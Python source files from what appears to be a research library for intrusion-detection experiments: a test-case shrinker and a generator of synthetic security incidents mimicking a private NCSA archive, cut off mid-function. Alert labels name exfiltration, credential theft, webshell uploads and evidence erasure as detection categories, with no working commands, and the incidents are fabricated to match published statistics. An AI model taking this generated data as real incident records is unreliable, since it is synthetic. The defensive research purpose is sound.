When the differential oracle finds a divergence (or a crash), the raw
campaign is typically hundreds of alerts across dozens of entities --
useless as a regression artefact.  :func:`shrink_campaign` reduces it
to a (locally) minimal failing campaign with classic ddmin-style
passes:

1. **Event-level** reduction: remove contiguous chunks of events
   (halving granularity, like ddmin) while the failure persists.
2. **Batch-level** reduction: within each surviving batch event,
   remove contiguous chunks of alerts.
3. **Control stripping**: drop control events that are not needed for
   the failure.

The failure predicate is caller-supplied (usually "the oracle reports a
divergence for this campaign" against the configs that failed), so the
shrinker never needs to know *why* the campaign fails -- it only
preserves the property.  Every candidate evaluation replays the
campaign, so the predicate budget is bounded by ``max_evaluations``.
"""

from __future__ import annotations

import dataclasses
from typing import Callable, Optional

from .campaign import Campaign, CampaignEvent

FailurePredicate = Callable[[Campaign], bool]


class _Budget:
    """Evaluation counter shared by all passes."""

    def __init__(self, limit: int) -> None:
        self.limit = int(limit)
        self.used = 0

    @property
    def exhausted(self) -> bool:
        return self.used >= self.limit


def _with_events(campaign: Campaign, events: list[CampaignEvent]) -> Campaign:
    label = campaign.label
    if not label.endswith("-shrunk"):
        label = f"{label}-shrunk" if label else "shrunk"
    return dataclasses.replace(campaign, events=tuple(events), label=label)


def _still_fails(
    campaign: Campaign, failing: FailurePredicate, budget: _Budget
) -> bool:
    if budget.exhausted:
        return False
    budget.used += 1
    try:
        return bool(failing(campaign))
    except Exception:
        # A predicate crash counts as a failure reproduction: the
        # shrinker's job is to keep whatever misbehaviour it was given.
        return True


def _ddmin_chunks(
    items: list, keep_failing: Callable[[list], bool], budget: _Budget
) -> list:
    """Classic ddmin over a list: remove chunks at halving granularity."""
    n_chunks = 2
    while len(items) >= 2 and not budget.exhausted:
        size = max(1, len(items) // n_chunks)
        reduced = False
        start = 0
        while start < len(items) and not budget.exhausted:
            candidate = items[:start] + items[start + size :]
            if candidate != items and keep_failing(candidate):
                items = candidate
                reduced = True
            else:
                start += size
        if reduced:
            n_chunks = max(n_chunks - 1, 2)
        elif size <= 1:
            break
        else:
            n_chunks = min(n_chunks * 2, len(items))
    return items


def shrink_campaign(
    campaign: Campaign,
    failing: FailurePredicate,
    *,
    max_evaluations: int = 400,
) -> Campaign:
    """Reduce a failing campaign to a (locally) minimal one.

    ``failing(campaign)`` must return ``True`` while the campaign still
    reproduces the original failure.  If the input campaign does not
    fail under the predicate it is returned unchanged (nothing to
    preserve, nothing to shrink).
    """
    budget = _Budget(max_evaluations)
    if not _still_fails(campaign, failing, budget):
        return campaign

    # Pass 1: event-level ddmin.
    events = _ddmin_chunks(
        list(campaign.events),
        lambda candidate: _still_fails(
            _with_events(campaign, candidate), failing, budget
        ),
        budget,
    )

    # Pass 2: alert-level ddmin inside each batch event.
    for index, event in enumerate(events):
        if event.kind != "batch" or not event.alerts or budget.exhausted:
            continue

        def fails_with_alerts(alerts: list) -> bool:
            candidate = list(events)
            candidate[index] = CampaignEvent(kind="batch", alerts=tuple(alerts))
            return _still_fails(_with_events(campaign, candidate), failing, budget)

        kept = _ddmin_chunks(list(event.alerts), fails_with_alerts, budget)
        events[index] = CampaignEvent(kind="batch", alerts=tuple(kept))

    # Pass 3: drop now-empty batches and unnecessary control events.
    for index in reversed(range(len(events))):
        if budget.exhausted:
            break
        event = events[index]
        removable = event.kind != "batch" or not event.alerts
        if not removable:
            continue
        candidate = events[:index] + events[index + 1 :]
        if _still_fails(_with_events(campaign, candidate), failing, budget):
            events = candidate

    return _with_events(campaign, events)


def shrink_for_oracle(
    campaign: Campaign,
    oracle,
    *,
    verdict=None,
    max_evaluations: int = 200,
) -> Optional[Campaign]:
    """Shrink a campaign that diverged under ``oracle``.

    Pass the failing :class:`~repro.fuzz.oracle.CampaignVerdict` as
    ``verdict`` to avoid re-replaying the full matrix; it is computed
    here otherwise.  Returns ``None`` if the campaign does not actually
    fail (nothing to record).

    The shrink predicate replays only the configurations that diverged
    (plus the reference), not the whole matrix: each candidate
    evaluation is then a handful of pipeline replays instead of up to
    54, which is what makes ``max_evaluations`` candidates affordable.
    """
    if verdict is None:
        verdict = oracle.run(campaign)
    if verdict.ok:
        return None
    diverged = list(dict.fromkeys(d.config for d in verdict.divergences))
    focused = type(oracle)(diverged, reference=oracle.reference)
    return shrink_campaign(
        campaign,
        lambda candidate: not focused.run(candidate).ok,
        max_evaluations=max_evaluations,
    )


__all__ = ["FailurePredicate", "shrink_campaign", "shrink_for_oracle"]
