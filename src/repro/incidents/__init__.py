"""Longitudinal incident dataset: patterns, incidents, generator, corpus.

Synthetic stand-in for NCSA's private 2000-2024 incident archive.  The
generator reproduces the published corpus statistics (Table I, Fig. 2,
Fig. 3, the S1..S43 pattern frequencies, critical-alert counts and the
60.08 % download/compile/erase prevalence) so every analysis and
detection experiment in the paper can be re-run end to end.
"""

from .corpus import CorpusStats, IncidentCorpus
from .generator import (
    DEFAULT_NUM_INCIDENTS,
    GeneratorConfig,
    IncidentGenerator,
    TARGET_DAILY_MEAN,
    TARGET_DAILY_STD,
    TARGET_FILTERED_ALERTS,
    TARGET_MOTIF_PREVALENCE,
    TARGET_RAW_ALERTS,
    generate_default_corpus,
)
from .incident import GroundTruth, Incident, IncidentReport, incidents_to_sequences
from .patterns import (
    AttackPattern,
    COMPILE_ALERTS,
    DEFAULT_CATALOGUE,
    DOWNLOAD_COMPILE_ERASE,
    PatternCatalogue,
    build_default_catalogue,
    contains_download_compile_erase,
    download_compile_erase_prevalence,
)

__all__ = [
    "CorpusStats",
    "IncidentCorpus",
    "GeneratorConfig",
    "IncidentGenerator",
    "generate_default_corpus",
    "DEFAULT_NUM_INCIDENTS",
    "TARGET_RAW_ALERTS",
    "TARGET_FILTERED_ALERTS",
    "TARGET_DAILY_MEAN",
    "TARGET_DAILY_STD",
    "TARGET_MOTIF_PREVALENCE",
    "GroundTruth",
    "Incident",
    "IncidentReport",
    "incidents_to_sequences",
    "AttackPattern",
    "PatternCatalogue",
    "build_default_catalogue",
    "DEFAULT_CATALOGUE",
    "DOWNLOAD_COMPILE_ERASE",
    "COMPILE_ALERTS",
    "contains_download_compile_erase",
    "download_compile_erase_prevalence",
]
