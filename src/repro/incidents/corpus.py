"""The longitudinal incident corpus: container, statistics, persistence.

:class:`IncidentCorpus` holds the curated incidents plus the corpus-wide
bookkeeping needed to reproduce Table I (raw alert volume, filtered
alert volume, archive size, study period).  It also provides the
dataset views the rest of the library consumes: attack alert sequences,
per-family and per-year slices, evaluation example sets, and JSONL
persistence for the released sample dataset.
"""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Callable, Iterator, Optional, Sequence

import numpy as np

from ..core.alerts import AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import AlertSequence
from .incident import Incident


@dataclasses.dataclass(frozen=True)
class CorpusStats:
    """The rows of Table I plus a few derived quantities."""

    total_raw_alerts: int
    filtered_alerts: int
    num_incidents: int
    data_size_bytes: int
    start_year: int
    end_year: int

    @property
    def data_size_terabytes(self) -> float:
        """Archive size in decimal terabytes (the unit Table I uses)."""
        return self.data_size_bytes / 1e12

    @property
    def span_years(self) -> int:
        """Length of the study period in calendar years."""
        return self.end_year - self.start_year + 1

    @property
    def reduction_factor(self) -> float:
        """Raw-to-filtered alert reduction achieved by scan filtering."""
        if self.filtered_alerts == 0:
            return 0.0
        return self.total_raw_alerts / self.filtered_alerts

    def as_table(self) -> list[tuple[str, str]]:
        """Render the Table I rows as (label, value) pairs."""
        return [
            ("Total alerts related to successful attacks", f"{self.total_raw_alerts / 1e6:.1f} M"),
            ("Alerts after being filtered", f"{self.filtered_alerts / 1e3:.0f} K"),
            ("Successful attacks", f"more than {min(200, self.num_incidents)} incidents"
             if self.num_incidents > 200 else f"{self.num_incidents} incidents"),
            ("Data size", f"{self.data_size_terabytes:.0f} TB"),
            ("Time period", f"{self.start_year}-{self.end_year}"),
        ]


@dataclasses.dataclass
class IncidentCorpus:
    """Container for the full longitudinal dataset."""

    incidents: list[Incident]
    start_year: int
    end_year: int
    raw_alert_total: int
    filtered_alert_total: int
    bytes_per_raw_alert: int = 1_280

    def __post_init__(self) -> None:
        if not self.incidents:
            raise ValueError("a corpus must contain at least one incident")
        self.incidents = sorted(self.incidents, key=lambda i: i.start_time)

    # -- basic protocol ----------------------------------------------------
    def __len__(self) -> int:
        return len(self.incidents)

    def __iter__(self) -> Iterator[Incident]:
        return iter(self.incidents)

    def __getitem__(self, index: int) -> Incident:
        return self.incidents[index]

    # -- views -------------------------------------------------------------
    def attack_sequences(self) -> list[AlertSequence]:
        """Alert sequences of all incidents (time order)."""
        return [incident.sequence for incident in self.incidents]

    def alert_name_sequences(self) -> list[tuple[str, ...]]:
        """Symbolic-name sequences of all incidents."""
        return [incident.alert_names for incident in self.incidents]

    def by_family(self, family: str) -> list[Incident]:
        """Incidents of a given attack family."""
        return [i for i in self.incidents if i.family == family]

    def families(self) -> list[str]:
        """Distinct attack families present, in first-appearance order."""
        seen: list[str] = []
        for incident in self.incidents:
            if incident.family not in seen:
                seen.append(incident.family)
        return seen

    def by_year(self, year: int) -> list[Incident]:
        """Incidents that started in ``year``."""
        return [i for i in self.incidents if i.year == year]

    def years(self) -> list[int]:
        """Sorted list of years with at least one incident."""
        return sorted({i.year for i in self.incidents})

    def filter(self, predicate: Callable[[Incident], bool]) -> list[Incident]:
        """Incidents satisfying an arbitrary predicate."""
        return [i for i in self.incidents if predicate(i)]

    def get(self, incident_id: str) -> Incident:
        """Incident by identifier (KeyError if absent)."""
        for incident in self.incidents:
            if incident.incident_id == incident_id:
                return incident
        raise KeyError(incident_id)

    # -- statistics -----------------------------------------------------------
    def stats(self) -> CorpusStats:
        """Corpus-wide statistics (the content of Table I)."""
        return CorpusStats(
            total_raw_alerts=self.raw_alert_total,
            filtered_alerts=self.filtered_alert_total,
            num_incidents=len(self.incidents),
            data_size_bytes=self.raw_alert_total * self.bytes_per_raw_alert,
            start_year=self.start_year,
            end_year=self.end_year,
        )

    def sequence_length_histogram(self) -> dict[int, int]:
        """Histogram of curated alert-sequence lengths across incidents."""
        histogram: dict[int, int] = {}
        for incident in self.incidents:
            histogram[incident.num_alerts] = histogram.get(incident.num_alerts, 0) + 1
        return dict(sorted(histogram.items()))

    def critical_alert_stats(
        self, vocabulary: Optional[AlertVocabulary] = None
    ) -> dict[str, int]:
        """Unique critical alert types and total critical occurrences."""
        vocab = vocabulary or DEFAULT_VOCABULARY
        unique: set[str] = set()
        occurrences = 0
        incidents_with_critical = 0
        for incident in self.incidents:
            names = incident.critical_alert_names(vocab)
            if names:
                incidents_with_critical += 1
            unique.update(names)
            occurrences += len(names)
        return {
            "unique_critical_alert_types": len(unique),
            "critical_alert_occurrences": occurrences,
            "incidents_with_critical_alert": incidents_with_critical,
        }

    # -- train/test helpers -------------------------------------------------
    def chronological_split(self, train_fraction: float = 0.7) -> tuple[list[Incident], list[Incident]]:
        """Split incidents chronologically (train on the past, test on the future).

        This mirrors how the testbed is actually used: models trained on
        historical incidents must catch present-day attacks.
        """
        if not 0.0 < train_fraction < 1.0:
            raise ValueError("train_fraction must be in (0, 1)")
        cutoff = int(round(train_fraction * len(self.incidents)))
        cutoff = min(max(cutoff, 1), len(self.incidents) - 1)
        return self.incidents[:cutoff], self.incidents[cutoff:]

    def random_split(
        self, train_fraction: float = 0.7, *, seed: int = 0
    ) -> tuple[list[Incident], list[Incident]]:
        """Random train/test split (for cross-validation style evaluation)."""
        if not 0.0 < train_fraction < 1.0:
            raise ValueError("train_fraction must be in (0, 1)")
        rng = np.random.default_rng(seed)
        order = rng.permutation(len(self.incidents))
        cutoff = int(round(train_fraction * len(self.incidents)))
        cutoff = min(max(cutoff, 1), len(self.incidents) - 1)
        train = [self.incidents[i] for i in order[:cutoff]]
        test = [self.incidents[i] for i in order[cutoff:]]
        return train, test

    # -- persistence ------------------------------------------------------------
    def save_jsonl(self, path: str | Path) -> Path:
        """Write the corpus to a JSON-lines file (one incident per line).

        The first line is a header object with the corpus-level
        bookkeeping; subsequent lines are incidents.
        """
        path = Path(path)
        with path.open("w", encoding="utf-8") as handle:
            header = {
                "kind": "repro-incident-corpus",
                "start_year": self.start_year,
                "end_year": self.end_year,
                "raw_alert_total": self.raw_alert_total,
                "filtered_alert_total": self.filtered_alert_total,
                "bytes_per_raw_alert": self.bytes_per_raw_alert,
                "num_incidents": len(self.incidents),
            }
            handle.write(json.dumps(header) + "\n")
            for incident in self.incidents:
                handle.write(json.dumps(incident.to_dict()) + "\n")
        return path

    @classmethod
    def load_jsonl(cls, path: str | Path) -> "IncidentCorpus":
        """Inverse of :meth:`save_jsonl`."""
        path = Path(path)
        with path.open("r", encoding="utf-8") as handle:
            lines = [line for line in handle if line.strip()]
        if not lines:
            raise ValueError(f"empty corpus file: {path}")
        header = json.loads(lines[0])
        if header.get("kind") != "repro-incident-corpus":
            raise ValueError(f"not a corpus file: {path}")
        incidents = [Incident.from_dict(json.loads(line)) for line in lines[1:]]
        return cls(
            incidents=incidents,
            start_year=int(header["start_year"]),
            end_year=int(header["end_year"]),
            raw_alert_total=int(header["raw_alert_total"]),
            filtered_alert_total=int(header["filtered_alert_total"]),
            bytes_per_raw_alert=int(header.get("bytes_per_raw_alert", 1_280)),
        )


__all__ = ["CorpusStats", "IncidentCorpus"]
