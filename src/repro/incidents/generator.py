"""Synthetic longitudinal incident corpus generator.

NCSA's real incident archive (2000-2024, ~30 TB, >200 incidents) is
private, so the reproduction generates a synthetic corpus that matches
the *published statistics* of the dataset while exercising exactly the
same analysis and detection code paths:

* 228 incidents spanning 2000-2024 (the paper says "more than 200"; its
  60.08 % = 137/228 figure pins the exact count),
* every incident instantiates one of the S1..S43 catalogue patterns as
  its backbone (plus a handful of one-of-a-kind "sudden" attacks),
  interleaved with benign background alerts,
* the download/compile/erase motif is present -- natively or as
  injected secondary activity -- in 60.08 % of incidents,
* critical alerts are rare, unique-typed, and occur only at or after the
  damage boundary,
* alert timing follows Insight 3: regular, machine-generated gaps during
  reconnaissance and highly variable, human-driven gaps afterwards,
* raw/filtered alert bookkeeping reproduces Table I's 25 M -> 191 K
  reduction and the ~94 K alerts/day volume of Fig. 2.

Everything is driven by an explicit :class:`numpy.random.Generator`, so
corpora are reproducible bit-for-bit from a seed.
"""

from __future__ import annotations

import dataclasses
import datetime as _dt
from typing import Optional, Sequence

import numpy as np

from ..core.alerts import Alert, AlertVocabulary, DEFAULT_VOCABULARY
from ..core.sequences import AlertSequence
from ..core.states import AttackStage
from .corpus import IncidentCorpus
from .incident import GroundTruth, Incident
from .patterns import (
    COMPILE_ALERTS,
    DEFAULT_CATALOGUE,
    PatternCatalogue,
    contains_download_compile_erase,
)

#: Number of incidents in the default corpus (137 / 228 = 60.08 %).
DEFAULT_NUM_INCIDENTS = 228

#: Published Table I / Fig. 2 calibration targets.
TARGET_RAW_ALERTS = 25_000_000
TARGET_FILTERED_ALERTS = 191_000
TARGET_DAILY_MEAN = 94_238
TARGET_DAILY_STD = 23_547
TARGET_MOTIF_PREVALENCE = 137 / 228

#: Benign background alert types safe to interleave into attack windows
#: (they never complete a catalogue pattern).
_BENIGN_NOISE = (
    "alert_login_normal",
    "alert_job_submission",
    "alert_file_transfer",
    "alert_cron_job",
    "alert_software_build",
    "alert_package_install",
    "alert_ssh_config_change",
)

#: High-volume attempt alerts that dominate the unfiltered stream.
_SCAN_NOISE = (
    "alert_port_scan",
    "alert_address_sweep",
    "alert_vuln_scan",
    "alert_bruteforce_ssh",
)

#: Auxiliary (incident-specific) attack alerts.  None of these appears in
#: the S1..S43 catalogue, so they never affect pattern mining; their role
#: is to make each incident's alert set partially unique, which is what
#: keeps pairwise attack similarity below 33 % for the vast majority of
#: attack pairs (Fig. 3a).
_AUX_ATTACK_ALERTS = (
    "alert_struts_probe",
    "alert_sql_injection_attempt",
    "alert_xss_probe",
    "alert_ftp_anonymous_login",
    "alert_telnet_login_attempt",
    "alert_smtp_relay_probe",
    "alert_dns_amplification_probe",
    "alert_ntp_monlist_probe",
    "alert_snmp_public_query",
    "alert_rdp_bruteforce",
    "alert_vnc_open_port",
    "alert_redis_unauth_access",
    "alert_mongodb_unauth_access",
    "alert_elasticsearch_open_index",
    "alert_docker_api_exposed",
    "alert_k8s_api_probe",
    "alert_jupyter_open_notebook",
    "alert_smb_scan",
    "alert_ipmi_probe",
    "alert_password_spray",
    "alert_webshell_upload",
    "alert_cve_exploit_attempt",
    "alert_phishing_landing",
    "alert_tor_exit_connection",
    "alert_geoip_anomaly",
    "alert_useragent_anomaly",
    "alert_ssh_protocol_mismatch",
    "alert_gridftp_anomaly",
    "alert_beacon_periodicity",
    "alert_certificate_invalid",
    "alert_dynamic_dns_lookup",
    "alert_uncommon_port_egress",
)

#: Weak variant of the download/compile/erase motif used for injection
#: (suspicious_compile instead of a kernel-module build), chosen so the
#: injection cannot be confused with the S2 catalogue pattern during
#: mining while still satisfying the semantic motif test.
_WEAK_MOTIF = (
    "alert_download_sensitive",
    "alert_suspicious_compile",
    "alert_erase_forensic_trace",
)

#: One-of-a-kind "sudden" attacks (cannot be preempted; §III.C scope).
_SINGLETON_SHAPES: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("zero_day_rce", ("alert_remote_code_execution", "alert_data_exfiltration")),
    ("insider_exfil", ("alert_research_data_staging", "alert_pii_in_http")),
    ("instant_wiper", ("alert_remote_code_execution", "alert_mass_file_encryption")),
    ("db_smash", ("alert_db_default_password_login", "alert_db_table_drop_burst")),
    ("malware_drop", ("alert_download_exploit_kit", "alert_malicious_binary_installed")),
    ("audit_kill", ("alert_login_stolen_credential", "alert_monitor_disabled")),
    ("stomp_and_go", ("alert_privilege_escalation", "alert_timestomp")),
    ("log_wipe_only", ("alert_login_new_origin", "alert_log_tamper")),
    ("ghost_probe", ("alert_ghost_account_login", "alert_service_version_probe")),
    ("miner_flash", ("alert_remote_code_execution", "alert_cryptomining")),
    ("scanner_break", ("alert_vuln_scan", "alert_remote_code_execution", "alert_data_exfiltration")),
)


def _contained_in_some_interleaving(
    pattern: Sequence[str],
    backbone: Sequence[str],
    motif: Sequence[str],
) -> bool:
    """Whether ``pattern`` is a subsequence of *some* interleaving of
    ``backbone`` and ``motif`` (each keeping its internal order).

    Equivalent to asking whether ``pattern`` can be partitioned into two
    order-preserving subsequences, one drawn from ``backbone`` and one
    from ``motif``.  Decided with a reachability DP over
    ``(backbone position, motif position)`` pairs after each pattern
    symbol.
    """
    reachable: set[tuple[int, int]] = {(0, 0)}
    for symbol in pattern:
        nxt: set[tuple[int, int]] = set()
        for b_pos, m_pos in reachable:
            # Consume the symbol from the backbone at/after b_pos.
            for i in range(b_pos, len(backbone)):
                if backbone[i] == symbol:
                    nxt.add((i + 1, m_pos))
                    break
            # Or consume it from the motif at/after m_pos.
            for j in range(m_pos, len(motif)):
                if motif[j] == symbol:
                    nxt.add((b_pos, j + 1))
                    break
        if not nxt:
            return False
        reachable = nxt
    return True


@dataclasses.dataclass
class GeneratorConfig:
    """Tunable parameters of the corpus generator."""

    num_incidents: int = DEFAULT_NUM_INCIDENTS
    start_year: int = 2000
    end_year: int = 2024
    motif_prevalence: float = TARGET_MOTIF_PREVALENCE
    benign_noise_per_incident: tuple[int, int] = (1, 4)
    auxiliary_alerts_per_incident: tuple[int, int] = (3, 6)
    raw_alert_target: int = TARGET_RAW_ALERTS
    filtered_alert_target: int = TARGET_FILTERED_ALERTS
    # Archived bytes per recorded alert: the 30 TB archive holds full packet
    # captures, system logs and forensic images, not just the alert lines.
    bytes_per_raw_alert: int = 1_200_000

    def __post_init__(self) -> None:
        if self.num_incidents < 1:
            raise ValueError("num_incidents must be positive")
        if self.end_year < self.start_year:
            raise ValueError("end_year must not precede start_year")
        if not 0.0 <= self.motif_prevalence <= 1.0:
            raise ValueError("motif_prevalence must be a fraction")


class IncidentGenerator:
    """Deterministic generator for the synthetic longitudinal corpus."""

    def __init__(
        self,
        seed: int = 7,
        *,
        catalogue: Optional[PatternCatalogue] = None,
        vocabulary: Optional[AlertVocabulary] = None,
        config: Optional[GeneratorConfig] = None,
    ) -> None:
        self.rng = np.random.default_rng(seed)
        self.catalogue = catalogue or DEFAULT_CATALOGUE
        self.vocabulary = vocabulary or DEFAULT_VOCABULARY
        self.config = config or GeneratorConfig()

    # ------------------------------------------------------------------
    # Timing helpers (Insight 3)
    # ------------------------------------------------------------------
    def _incident_start(self, year: int) -> float:
        """Random start timestamp within ``year`` (UTC)."""
        base = _dt.datetime(year, 1, 1, tzinfo=_dt.timezone.utc).timestamp()
        span = 364 * 86_400
        return float(base + self.rng.integers(0, span) + self.rng.integers(0, 86_400))

    def _next_gap(self, stage: AttackStage) -> float:
        """Gap to the next alert, conditioned on the current stage.

        Reconnaissance alerts are machine-generated and closely spaced;
        once the attacker works interactively the gaps become long and
        highly variable (minutes to many hours).
        """
        if stage in (AttackStage.BACKGROUND, AttackStage.RECONNAISSANCE):
            return float(self.rng.gamma(shape=2.0, scale=45.0))  # ~1-3 minutes
        if stage in (AttackStage.FOOTHOLD, AttackStage.ESCALATION):
            return float(self.rng.lognormal(mean=6.0, sigma=1.2))  # minutes to an hour
        return float(self.rng.lognormal(mean=7.5, sigma=1.5))  # tens of minutes to many hours

    # ------------------------------------------------------------------
    # Single-incident construction
    # ------------------------------------------------------------------
    def _attacker_ip(self) -> str:
        """Random external attacker IP (outside the 141.142/16 target space)."""
        first = int(self.rng.choice([45, 62, 77, 91, 103, 111, 132, 185, 194, 216]))
        return f"{first}.{self.rng.integers(1, 255)}.{self.rng.integers(1, 255)}.{self.rng.integers(1, 255)}"

    def _internal_host(self) -> str:
        """Random internal host name in the simulated cluster."""
        return f"node-{int(self.rng.integers(0, 4096)):04d}"

    def _build_incident(
        self,
        index: int,
        year: int,
        family: str,
        backbone: Sequence[str],
        pattern_names: tuple[str, ...],
        *,
        inject_motif: bool,
    ) -> Incident:
        """Assemble one incident from a backbone of alert names."""
        rng = self.rng
        user = f"user{index:03d}"
        entity = f"user:{user}"
        host = self._internal_host()
        attacker_ip = self._attacker_ip()
        vocab = self.vocabulary

        names = list(backbone)
        # Optionally interleave the weak download/compile/erase motif as
        # secondary attacker activity, starting strictly after the first
        # backbone alert so pattern mining still attributes the incident
        # to its backbone pattern.
        if inject_motif and not contains_download_compile_erase(names):
            insert_positions = sorted(
                int(p) for p in rng.integers(1, len(names) + 1, size=len(_WEAK_MOTIF))
            )
            for offset, (pos, symbol) in enumerate(zip(insert_positions, _WEAK_MOTIF)):
                names.insert(pos + offset, symbol)
        # Sprinkle incident-specific auxiliary attack alerts (never at
        # position 0, so the backbone still explains the attack's onset).
        aux_low, aux_high = self.config.auxiliary_alerts_per_incident
        num_aux = int(rng.integers(aux_low, aux_high + 1))
        aux_symbols = rng.choice(_AUX_ATTACK_ALERTS, size=num_aux, replace=False)
        for symbol in aux_symbols:
            position = int(rng.integers(1, len(names) + 1))
            names.insert(position, str(symbol))
        # Interleave benign background noise.
        low, high = self.config.benign_noise_per_incident
        for _ in range(int(rng.integers(low, high + 1))):
            symbol = str(rng.choice(_BENIGN_NOISE))
            position = int(rng.integers(1, len(names) + 1))
            names.insert(position, symbol)

        timestamp = self._incident_start(year)
        alerts: list[Alert] = []
        for symbol in names:
            stage = vocab.get(symbol).stage
            alerts.append(
                Alert(
                    timestamp=timestamp,
                    name=symbol,
                    entity=entity,
                    source_ip=attacker_ip,
                    host=host,
                    monitor="zeek" if stage <= AttackStage.FOOTHOLD else "osquery",
                    attributes={"user": user},
                )
            )
            timestamp += self._next_gap(stage)

        sequence = AlertSequence(tuple(alerts))
        damage = any(
            vocab.get(a.name).stage.is_damage or vocab.get(a.name).critical for a in alerts
        )
        ground_truth = GroundTruth(
            compromised_users=(user,),
            compromised_hosts=(host,),
            attacker_ips=(attacker_ip,),
            entry_point=backbone[0],
            succeeded=True,
            data_breach=damage,
            notes=f"Synthetic incident instantiating {', '.join(pattern_names) or 'a unique sequence'}.",
        )
        raw_count = int(rng.normal(
            self.config.raw_alert_target / self.config.num_incidents,
            self.config.raw_alert_target / self.config.num_incidents * 0.15,
        ))
        return Incident(
            incident_id=f"NCSA-{year}-{index:03d}",
            year=year,
            family=family,
            sequence=sequence,
            ground_truth=ground_truth,
            pattern_names=pattern_names,
            raw_alert_count=max(1_000, raw_count),
        )

    # ------------------------------------------------------------------
    # Corpus-level planning
    # ------------------------------------------------------------------
    def _plan_assignments(self) -> list[tuple[str, tuple[str, ...], str]]:
        """Plan one (family, backbone, pattern-name) triple per incident.

        Each catalogue pattern contributes ``base_frequency`` incidents;
        singleton shapes fill the remainder up to ``num_incidents``.
        """
        plan: list[tuple[str, tuple[str, ...], str]] = []
        for pattern in self.catalogue:
            for _ in range(pattern.base_frequency):
                plan.append((pattern.family, pattern.names, pattern.name))
        singleton_index = 0
        while len(plan) < self.config.num_incidents:
            family, names = _SINGLETON_SHAPES[singleton_index % len(_SINGLETON_SHAPES)]
            plan.append((family, names, ""))
            singleton_index += 1
        if len(plan) > self.config.num_incidents:
            plan = plan[: self.config.num_incidents]
        return plan

    def _plan_years(self, plan: Sequence[tuple[str, tuple[str, ...], str]]) -> list[int]:
        """Assign a year to each planned incident.

        Pattern-backed incidents are placed uniformly between the
        pattern's ``first_seen_year`` and the end of the study period --
        this is what makes "similar alert sequences are repeatedly found
        in old and recent incidents" true of the corpus.
        """
        years: list[int] = []
        for _, _, pattern_name in plan:
            if pattern_name:
                first = max(self.catalogue.get(pattern_name).first_seen_year, self.config.start_year)
            else:
                first = self.config.start_year
            years.append(int(self.rng.integers(first, self.config.end_year + 1)))
        return years

    def _plan_motif_injection(
        self, plan: Sequence[tuple[str, tuple[str, ...], str]]
    ) -> list[bool]:
        """Decide which incidents receive the injected motif.

        Targets the configured prevalence while guaranteeing that the
        injection never creates a catalogue-pattern match longer than
        the incident's own backbone (which would corrupt Fig. 3b).
        """
        total = len(plan)
        target = int(round(self.config.motif_prevalence * total))
        natural = [contains_download_compile_erase(names) for _, names, _ in plan]
        inject = [False] * total
        have = sum(natural)
        if have >= target:
            return inject
        needed = target - have
        # Deterministic candidate order: longest backbones first (they
        # are the safest to inject into), then by plan position.
        candidates = sorted(
            (i for i in range(total) if not natural[i] and plan[i][2]),
            key=lambda i: (-len(plan[i][1]), i),
        )
        for index in candidates:
            if needed == 0:
                break
            family, backbone, pattern_name = plan[index]
            if not self._injection_is_safe(backbone, pattern_name):
                continue
            inject[index] = True
            needed -= 1
        return inject

    def _injection_is_safe(self, backbone: Sequence[str], pattern_name: str) -> bool:
        """Whether injecting the weak motif preserves pattern attribution.

        Safe means: no catalogue pattern at least as long as the backbone
        (other than the backbone's own pattern) can become an ordered
        subsequence of *any* interleaving of the backbone with the weak
        motif.  Containment-in-some-interleaving is decided exactly with
        a small dynamic program over (pattern, backbone, motif) indices,
        so Fig. 3b's pattern-mining attribution is provably unaffected by
        the injection.
        """
        own_length = len(backbone)
        for pattern in self.catalogue:
            if pattern.name == pattern_name:
                continue
            if len(pattern.names) < own_length:
                continue
            if _contained_in_some_interleaving(pattern.names, backbone, _WEAK_MOTIF):
                return False
        return True

    # ------------------------------------------------------------------
    # Public API
    # ------------------------------------------------------------------
    def generate_corpus(self) -> IncidentCorpus:
        """Generate the full longitudinal corpus."""
        plan = self._plan_assignments()
        years = self._plan_years(plan)
        inject = self._plan_motif_injection(plan)
        incidents: list[Incident] = []
        for index, ((family, backbone, pattern_name), year, motif) in enumerate(
            zip(plan, years, inject), start=1
        ):
            pattern_names = (pattern_name,) if pattern_name else ()
            incidents.append(
                self._build_incident(
                    index, year, family, backbone, pattern_names, inject_motif=motif
                )
            )
        incidents.sort(key=lambda inc: inc.start_time)
        return IncidentCorpus(
            incidents=incidents,
            start_year=self.config.start_year,
            end_year=self.config.end_year,
            raw_alert_total=sum(i.raw_alert_count for i in incidents),
            filtered_alert_total=self._filtered_total(incidents),
            bytes_per_raw_alert=self.config.bytes_per_raw_alert,
        )

    def _filtered_total(self, incidents: Sequence[Incident]) -> int:
        """Total filtered (attack-related) alerts, calibrated to Table I.

        The curated sequences carry only the key alerts; the filtered
        count additionally includes the attack-adjacent context alerts
        the 25M->191K filter keeps, modelled proportionally per incident.
        """
        per_incident = self.config.filtered_alert_target / max(1, self.config.num_incidents)
        total = 0
        for incident in incidents:
            context = int(self.rng.normal(per_incident, per_incident * 0.2))
            total += max(incident.num_alerts, context)
        return total

    # ------------------------------------------------------------------
    # Benign traffic and daily volumes
    # ------------------------------------------------------------------
    def generate_benign_sequences(
        self,
        count: int,
        *,
        min_length: int = 3,
        max_length: int = 12,
    ) -> list[AlertSequence]:
        """Benign per-entity alert sequences (legitimate users).

        Benign users occasionally trip low-severity alerts (a login from
        a conference network, a software build), which is what makes the
        false-positive side of the evaluation non-trivial.
        """
        rng = self.rng
        sequences: list[AlertSequence] = []
        benign_pool = _BENIGN_NOISE + (
            "alert_login_new_origin",
            "alert_login_unusual_hour",
            "alert_download_sensitive",
            "alert_suspicious_compile",
            "alert_geoip_anomaly",
            "alert_useragent_anomaly",
            "alert_gridftp_anomaly",
        )
        weights = np.array([8.0] * len(_BENIGN_NOISE) + [1.0, 1.0, 0.5, 0.5, 0.5, 0.5, 0.5])
        weights = weights / weights.sum()
        for index in range(count):
            length = int(rng.integers(min_length, max_length + 1))
            names = list(rng.choice(benign_pool, size=length, p=weights))
            start = self._incident_start(int(rng.integers(self.config.start_year, self.config.end_year + 1)))
            timestamp = start
            alerts = []
            user = f"benign{index:04d}"
            for symbol in names:
                alerts.append(
                    Alert(
                        timestamp=timestamp,
                        name=str(symbol),
                        entity=f"user:{user}",
                        host=self._internal_host(),
                        monitor="zeek",
                        attributes={"user": user},
                    )
                )
                timestamp += float(rng.lognormal(mean=8.0, sigma=1.0))
